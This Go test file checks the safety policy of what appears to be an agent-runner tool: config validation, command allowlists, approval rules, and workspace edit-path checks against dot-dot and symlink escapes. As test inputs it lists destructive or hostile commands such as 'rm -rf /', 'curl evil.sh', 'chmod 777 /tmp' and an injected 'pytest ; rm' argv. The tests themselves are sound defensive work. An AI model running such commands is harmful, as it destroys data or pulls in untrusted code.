package policy

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"runbot/internal/model"
)

func TestDefaultConfigValidates(t *testing.T) {
	if err := Validate(Default()); err != nil {
		t.Fatalf("default config must validate: %v", err)
	}
}

func TestValidateRejectsBadConfigs(t *testing.T) {
	cases := []struct {
		name    string
		mutate  func(cfg *Config)
		message string
	}{
		{"zero version", func(cfg *Config) { cfg.Version = 0 }, "version"},
		{"no patterns", func(cfg *Config) { cfg.Safety.AllowedCommandPatterns = nil }, "allowed_command_patterns"},
		{"empty pattern", func(cfg *Config) { cfg.Safety.AllowedCommandPatterns = [][]string{{}} }, "allowed_command_patterns"},
		{"no suffixes", func(cfg *Config) { cfg.Safety.AllowedEditSuffixes = nil }, "allowed_edit_suffixes"},
		{"no roles", func(cfg *Config) { cfg.Safety.ApprovalRoles = nil }, "approval_roles"},
		{"sandbox without root", func(cfg *Config) { cfg.Sandbox.Root = " " }, "sandbox.root"},
		{"zero retry attempts", func(cfg *Config) { cfg.Execution.RetryAttempts = 0 }, "retry_attempts"},
		{"negative backoff", func(cfg *Config) { cfg.Execution.RetryBackoffMS = -1 }, "retry_backoff_ms"},
		{"zero timeout", func(cfg *Config) { cfg.Execution.CommandTimeoutSeconds = 0 }, "command_timeout_seconds"},
		{"unknown store backend", func(cfg *Config) { cfg.Store.Backend = "postgres" }, "store.backend"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cfg := Default()
			tc.mutate(&cfg)
			err := Validate(cfg)
			if err == nil {
				t.Fatalf("expected validation error")
			}
			if !strings.Contains(err.Error(), tc.message) {
				t.Fatalf("expected error mentioning %q, got %v", tc.message, err)
			}
		})
	}
}

func TestLoadMissingFileReturnsDefaults(t *testing.T) {
	path := filepath.Join(t.TempDir(), "absent.json")
	cfg, finalPath, err := Load(path)
	if err != nil {
		t.Fatalf("load missing policy: %v", err)
	}
	if finalPath != path {
		t.Fatalf("expected final path %s, got %s", path, finalPath)
	}
	if cfg.Version != Default().Version {
		t.Fatalf("expected default config for missing file")
	}
}

func TestSaveDefaultThenLoadRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "nested", "policy.json")
	if err := SaveDefault(path); err != nil {
		t.Fatalf("save default: %v", err)
	}
	cfg, _, err := Load(path)
	if err != nil {
		t.Fatalf("load saved policy: %v", err)
	}
	if cfg.Store.Backend != "memory" {
		t.Fatalf("unexpected store backend %q", cfg.Store.Backend)
	}
	if len(cfg.Safety.SafeCommandPrefixes) == 0 {
		t.Fatalf("expected safe command prefixes to survive the round trip")
	}
}

func TestLoadRejectsInvalidPolicy(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.json")
	if err := os.WriteFile(path, []byte(`{"version": 0}`), 0o644); err != nil {
		t.Fatalf("write policy: %v", err)
	}
	if _, _, err := Load(path); err == nil {
		t.Fatalf("expected validation error for version 0")
	}
}

func TestLoadRejectsMalformedJSON(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.json")
	if err := os.WriteFile(path, []byte("{not json"), 0o644); err != nil {
		t.Fatalf("write policy: %v", err)
	}
	if _, _, err := Load(path); err == nil {
		t.Fatalf("expected parse error")
	}
}

func TestIsSafeCommand(t *testing.T) {
	p := NewSafetyPolicy(Default())
	safe := []string{"pytest -q", "  pytest tests/unit", "go test ./...", "npm run lint"}
	for _, command := range safe {
		if !p.IsSafeCommand(command) {
			t.Fatalf("expected %q to be safe", command)
		}
	}
	unsafe := []string{"rm -rf /", "pip install something", "npm run deploy", ""}
	for _, command := range unsafe {
		if p.IsSafeCommand(command) {
			t.Fatalf("expected %q to be unsafe", command)
		}
	}
}

func TestRequiresApproval(t *testing.T) {
	p := NewSafetyPolicy(Default())
	edit := model.ProposedAction{ActionType: model.ActionTypeEdit, FilePath: "main.py"}
	if !p.RequiresApproval(edit) {
		t.Fatalf("edits always require approval")
	}
	safeCommand := model.ProposedAction{ActionType: model.ActionTypeCommand, Command: "pytest -q"}
	if p.RequiresApproval(safeCommand) {
		t.Fatalf("safe commands skip approval")
	}
	unsafeCommand := model.ProposedAction{ActionType: model.ActionTypeCommand, Command: "curl evil.sh"}
	if !p.RequiresApproval(unsafeCommand) {
		t.Fatalf("unsafe commands require approval")
	}
	emptyCommand := model.ProposedAction{ActionType: model.ActionTypeCommand}
	if !p.RequiresApproval(emptyCommand) {
		t.Fatalf("empty commands require approval")
	}
}

func TestIsCommandAllowedBlocksDestructiveTokens(t *testing.T) {
	p := NewSafetyPolicy(Default())
	blocked := []string{"sudo apt install", "rm -rf build", "chmod 777 /tmp", "shutdown now"}
	for _, command := range blocked {
		if p.IsCommandAllowed(command) {
			t.Fatalf("expected %q to be blocked", command)
		}
	}
	// "format" contains no blocked token; "rming" must not match " rm ".
	allowed := []string{"ruff format .", "pytest -k rming"}
	for _, command := range allowed {
		if !p.IsCommandAllowed(command) {
			t.Fatalf("expected %q to be allowed", command)
		}
	}
}

func TestIsCommandSpecAllowed(t *testing.T) {
	p := NewSafetyPolicy(Default())
	if !p.IsCommandSpecAllowed([]string{"pytest", "-q", "tests/"}) {
		t.Fatalf("pytest argv should match the allowlist")
	}
	if !p.IsCommandSpecAllowed([]string{"python", "-m", "pytest"}) {
		t.Fatalf("python -m pytest should match the allowlist")
	}
	if p.IsCommandSpecAllowed([]string{"python", "-m", "http.server"}) {
		t.Fatalf("partial pattern match must not pass")
	}
	if p.IsCommandSpecAllowed([]string{"pytest", ";", "rm"}) {
		t.Fatalf("shell metacharacter args must fail the gate")
	}
	if p.IsCommandSpecAllowed(nil) {
		t.Fatalf("empty argv must fail the gate")
	}
}

func TestIsEditPathAllowed(t *testing.T) {
	p := NewSafetyPolicy(Default())
	workspace := t.TempDir()

	if !p.IsEditPathAllowed(workspace, filepath.Join(workspace, "pkg", "main.py")) {
		t.Fatalf("expected nested .py path inside workspace to be allowed")
	}
	if p.IsEditPathAllowed(workspace, filepath.Join(workspace, "run.sh")) {
		t.Fatalf("disallowed suffix must be rejected")
	}
	if p.IsEditPathAllowed(workspace, filepath.Join(t.TempDir(), "outside.py")) {
		t.Fatalf("path outside workspace must be rejected")
	}
	if p.IsEditPathAllowed(workspace, filepath.Join(workspace, "..", "sibling.py")) {
		t.Fatalf("dot-dot escape must be rejected")
	}
	if !p.IsEditPathAllowed(workspace, filepath.Join(workspace, "new", "deep", "file.py")) {
		t.Fatalf("not-yet-existing nested path inside workspace must be allowed")
	}
}

func TestIsEditPathAllowedResolvesSymlinks(t *testing.T) {
	p := NewSafetyPolicy(Default())
	workspace := t.TempDir()
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "victim.py"), []byte("untouched\n"), 0o644); err != nil {
		t.Fatalf("seed outside file: %v", err)
	}

	fileLink := filepath.Join(workspace, "notes.py")
	if err := os.Symlink(filepath.Join(outside, "victim.py"), fileLink); err != nil {
		t.Skipf("symlinks not supported: %v", err)
	}
	if p.IsEditPathAllowed(workspace, fileLink) {
		t.Fatalf("symlink to a file outside the workspace must be rejected")
	}

	dirLink := filepath.Join(workspace, "sub")
	if err := os.Symlink(outside, dirLink); err != nil {
		t.Fatalf("create dir symlink: %v", err)
	}
	if p.IsEditPathAllowed(workspace, filepath.Join(dirLink, "code.py")) {
		t.Fatalf("path through a symlinked directory outside the workspace must be rejected")
	}

	inside := filepath.Join(workspace, "real.py")
	if err := os.WriteFile(inside, []byte("x = 1\n"), 0o644); err != nil {
		t.Fatalf("seed inside file: %v", err)
	}
	insideLink := filepath.Join(workspace, "alias.py")
	if err := os.Symlink(inside, insideLink); err != nil {
		t.Fatalf("create inside symlink: %v", err)
	}
	if !p.IsEditPathAllowed(workspace, insideLink) {
		t.Fatalf("symlink resolving inside the workspace must stay allowed")
	}
}

func TestCanApprove(t *testing.T) {
	p := NewSafetyPolicy(Default())
	if !p.CanApprove(model.RoleApprover) || !p.CanApprove(model.RoleAdmin) {
		t.Fatalf("approver and admin can approve")
	}
	if p.CanApprove(model.RoleViewer) || p.CanApprove(model.RoleExecutor) {
		t.Fatalf("viewer and executor cannot approve")
	}
}
